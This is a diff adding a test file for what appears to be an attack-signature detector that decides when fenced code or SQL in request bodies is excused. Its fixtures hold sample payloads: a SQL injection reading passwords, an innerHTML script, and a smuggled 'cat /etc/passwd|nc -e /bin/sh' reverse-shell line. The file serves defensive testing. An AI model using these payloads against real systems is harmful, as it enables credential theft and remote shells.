@@ -1,0 +1,62 @@
+import { expect, test } from 'vitest';
+import { decoyField, unknownField } from '../../../src/attacks/fields/field-kind.ts';
+import { findSignatures } from '../../../src/attacks/find-signatures.ts';
+import { signatures } from '../../../src/attacks/signatures/registry.gen.ts';
+
+const PAGE = '<script>document.getElementById("a").innerHTML = x</script>';
+const FENCED = `How do I load this?\n\n\`\`\`html\n${PAGE}\n\`\`\`\n`;
+const BREAK_OUT = "1' union select password from users--";
+const STATEMENT = "select table_name from information_schema.tables where a = 'b' or c = 'd' -- all";
+
+function sentTo(path: string, document: object, kindOf = unknownField): readonly string[] {
+  const request = { method: 'POST', path, query: '', headers: {}, contentType: 'application/json' };
+  const body = JSON.stringify(document);
+  return findSignatures({ ...request, body }, signatures, null, kindOf).matches.map(({ location }) => location);
+}
+
+test('a question to a model, an issue and a post hold fenced code where their interface has a text', () => {
+  expect(sentTo('/v1/chat/completions', { messages: [{ role: 'user', content: FENCED }] })).toEqual([]);
+  expect(sentTo('/v1/messages', { messages: [{ content: [{ type: 'text', text: FENCED }] }] })).toEqual([]);
+  expect(sentTo('/repos/acme/web/issues', { title: 'Load it', body: FENCED })).toEqual([]);
+  expect(sentTo('/api/v4/projects/7/issues', { title: 'Load it', description: FENCED })).toEqual([]);
+});
+
+test('fences excuse nothing in other fields, at other paths, or around what is not in them', () => {
+  expect(sentTo('/v1/chat/completions', { user: FENCED })).toEqual(['body.user']);
+  expect(sentTo('/comments', { messages: [{ content: FENCED }] })).toEqual(['body.messages[0].content']);
+  expect(sentTo('/repos/acme/web/issues', { body: `${FENCED}${PAGE}` })).toEqual(['body.body']);
+  expect(sentTo('/repos/acme/web/issues', { body: BREAK_OUT })).toEqual(['body.body']);
+});
+
+test('what a dialect excuses is not passed on to a field of the same name', () => {
+  const many = Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`name${i}`, `value ${i}`]));
+  const messages = [{ content: FENCED }];
+  expect(sentTo('/v1/messages', { messages, ...many, page: { content: FENCED } })).toEqual(['body.page.content']);
+});
+
+test('a file that is put into a repository is code, in base64 too, and so is a block of code in rich text', () => {
+  const source = `import a from 'a';\n\n${PAGE}\n`;
+  const content = Buffer.from(source).toString('base64');
+  expect(sentTo('/repos/acme/web/contents/a.html', { message: 'Add', content })).toEqual([]);
+  expect(sentTo('/upload', { message: 'Add', content })).toEqual(['body.content']);
+  expect(sentTo('/repos/acme/web/contents/a.html', { message: 'Add', content: BREAK_OUT })).toEqual(['body.content']);
+  const description = { content: [{ type: 'codeBlock', content: [{ type: 'text', text: source }] }] };
+  expect(sentTo('/rest/api/3/issue', { fields: { description } })).toEqual([]);
+});
+
+test('a console is sent whole statements', () => {
+  expect(sentTo('/api/ds/query', { queries: [{ refId: 'A', rawSql: STATEMENT }] })).toEqual([]);
+  expect(sentTo('/api/dataset', { native: { query: `-- all\n${STATEMENT}` } })).toEqual([]);
+  expect(sentTo('/druid/v2/sql', { query: STATEMENT })).toEqual([]);
+});
+
+test('in a console what breaks out of something, other fields and other attacks count', () => {
+  expect(sentTo('/api/ds/query', { queries: [{ rawSql: BREAK_OUT }] })).toEqual(['body.queries[0].rawSql']);
+  expect(sentTo('/api/ds/query', { from: STATEMENT })).toEqual(['body.from']);
+  expect(sentTo('/search', { query: STATEMENT })).toEqual(['body.query']);
+  expect(sentTo('/druid/v2/sql', { query: `${STATEMENT};cat /etc/passwd|nc -e /bin/sh a 1` })).toEqual(['body.query']);
+});
+
+test('at a decoy nothing is excused', () => {
+  expect(sentTo('/druid/v2/sql', { query: STATEMENT }, decoyField)).toEqual(['body.query']);
+});
